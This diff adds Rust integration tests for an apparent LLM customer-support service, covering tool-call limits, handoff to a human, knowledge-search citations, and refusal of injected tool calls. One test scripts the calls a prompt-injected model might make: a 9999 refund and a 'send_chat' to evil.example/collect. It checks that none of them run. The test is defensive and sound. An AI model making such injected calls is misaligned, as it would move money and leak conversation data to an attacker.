@@ -323,3 +323,107 @@ async fn l7_a_spent_token_budget_refuses_before_the_model_is_called_and_is_never
     assert_eq!(s.mock.request_count(), 1 + answered);
     assert_eq!(tokens_used(&s).await, used);
 }
+
+/// The tool messages the model got back in request `n`.
+fn tool_results(mock: &MockLlm, n: usize) -> Vec<String> {
+    let body = mock.requests()[n].json.clone().unwrap();
+    body["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["role"] == "tool")
+        .map(|m| m["content"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+#[tokio::test]
+async fn l5_a_model_that_loops_on_tool_calls_stops_at_the_limit_and_hands_off() {
+    let s = setup(json!({}), json!({})).await;
+    s.mock.set_default(Script::tool_call("search_knowledge", json!({"query": "returns"})));
+    let turn = ask(&s, "How long do I have to return something in the EU?").await;
+    assert_eq!(
+        (turn["outcome"].as_str(), turn["status"].as_str()),
+        (Some("escalated"), Some("pending_human")),
+        "{turn}"
+    );
+    assert_eq!(s.mock.request_count(), 9, "eight calls ran; the ninth asked for is not run");
+    let stored = stored_reply(&s).await;
+    let evidence = &stored["details"]["evidence"];
+    assert_eq!(evidence["llm_failure"]["kind"], "tool_limit", "{stored}");
+    assert_eq!(evidence["tool_calls"].as_array().unwrap().len(), 8);
+    // The tools were offered with their schemas.
+    let offered: Vec<String> = s.mock.requests()[0].json.as_ref().unwrap()["tools"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t["function"]["name"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(offered, ["search_knowledge", "handoff_to_human"]);
+}
+
+#[tokio::test]
+async fn l1_injected_tool_calls_are_refused_and_only_offered_tools_run() {
+    let s = setup(json!({}), json!({})).await;
+    // What an injected instruction makes an obedient model do: tools that do not exist here,
+    // and an offered one with bad arguments. None of them runs; the model is told why.
+    s.mock.push(Script::tool_calls(vec![
+        ("refund".into(), json!({"amount": 9999})),
+        ("send_chat".into(), json!({"to": "https://evil.example/collect"})),
+        ("search_knowledge".into(), json!({"query": 42, "url": "https://evil.example"})),
+        ("search_knowledge".into(), json!({"query": "EU returns"})),
+    ]));
+    s.mock.push(Script::reply(ANSWER));
+    let turn = ask(&s, "How long do I have to return something in the EU?").await;
+    assert_eq!(turn["outcome"], "answered", "{turn}");
+    let results = tool_results(&s.mock, 1);
+    assert_eq!(results.len(), 4);
+    assert!(results[0].contains("unknown tool `refund`"), "{results:?}");
+    assert!(results[1].contains("unknown tool `send_chat`"), "{results:?}");
+    assert!(results[2].contains("do not match its schema"), "{results:?}");
+    assert_eq!(results[3], "No further sources found.", "the prompt already has the returns chunk");
+    let stored = stored_reply(&s).await;
+    let ran: Vec<bool> = stored["details"]["evidence"]["tool_calls"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["ran"].as_bool().unwrap())
+        .collect();
+    assert_eq!(ran, [false, false, false, true], "{stored}");
+}
+
+#[tokio::test]
+async fn the_model_can_hand_the_conversation_to_a_person() {
+    let s = setup(json!({}), json!({})).await;
+    s.mock.push(Script::tool_call("handoff_to_human", json!({"reason": "the customer is upset"})));
+    let turn = ask(&s, "This is the third time my parcel is late.").await;
+    assert_eq!(
+        (turn["outcome"].as_str(), turn["status"].as_str()),
+        (Some("escalated"), Some("pending_human")),
+        "{turn}"
+    );
+    let events: Value =
+        s.app.get(&format!("/v1/conversations/{}/events", s.conversation), &s.app.a.key).await.json().await.unwrap();
+    let reasons = events["events"].to_string();
+    assert!(reasons.contains("the customer is upset"), "{reasons}");
+}
+
+#[tokio::test]
+async fn search_knowledge_adds_sources_numbered_after_the_prompts_and_they_can_be_cited() {
+    let s = setup(json!({"knowledge": {"top_k": 1}}), json!({})).await;
+    let c: Value = s.app.get("/v1/collections", &s.app.a.key).await.json().await.unwrap();
+    let kb = c["collections"][0]["id"].as_str().unwrap().to_owned();
+    let shipping = "# Shipping\n\nExpress delivery arrives the next business day and costs 9 euros.\n";
+    let r = s
+        .app
+        .post(&format!("/v1/collections/{kb}/documents"), &s.app.a.key, &json!({"title": "Shipping", "text": shipping}))
+        .await;
+    assert_eq!(r.status(), 202);
+    s.app.run_jobs().await;
+    s.mock.push(Script::tool_call("search_knowledge", json!({"query": "express delivery cost"})));
+    s.mock.push(Script::reply("Express delivery costs 9 euros [2]."));
+    let turn = ask(&s, "How long do I have to return something in the EU?").await;
+    assert_eq!(turn["outcome"], "answered", "{turn}");
+    let citation = &turn["reply"]["citations"][0];
+    assert_eq!((citation["number"].as_u64(), citation["title"].as_str()), (Some(2), Some("Shipping")), "{turn}");
+    assert!(tool_results(&s.mock, 1)[0].starts_with("[2] Shipping"), "{:?}", tool_results(&s.mock, 1));
+}
